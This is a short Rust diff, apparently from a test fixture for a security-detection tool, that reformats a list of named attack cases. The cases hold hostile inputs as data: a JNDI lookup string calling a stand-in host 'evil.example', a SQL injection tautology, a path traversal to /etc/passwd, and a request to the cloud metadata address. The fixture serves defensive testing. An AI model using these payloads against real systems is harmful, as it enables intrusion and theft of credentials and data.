@@ -19,9 +19,15 @@ pub fn all() -> Vec<(&'static str, String)> {
         ("attack: Java look-up", attack("${jndi:ldap://evil.example/a}")),
         ("attack: scanner", scanner()),
         ("fingerprints and schema", schema()),
-        ("exploit: SQL", exploit("server.db.statement", "SELECT name FROM users WHERE id='1' OR '1'='1'", "1' OR '1'='1")),
+        (
+            "exploit: SQL",
+            exploit("server.db.statement", "SELECT name FROM users WHERE id='1' OR '1'='1'", "1' OR '1'='1"),
+        ),
         ("exploit: file", exploit("server.io.fs.file", "/var/www/uploads/../../../etc/passwd", "../../../etc/passwd")),
-        ("exploit: URL", exploit("server.io.net.url", "http://169.254.169.254/latest/meta-data/", "169.254.169.254/latest")),
+        (
+            "exploit: URL",
+            exploit("server.io.net.url", "http://169.254.169.254/latest/meta-data/", "169.254.169.254/latest"),
+        ),
     ]
 }
 
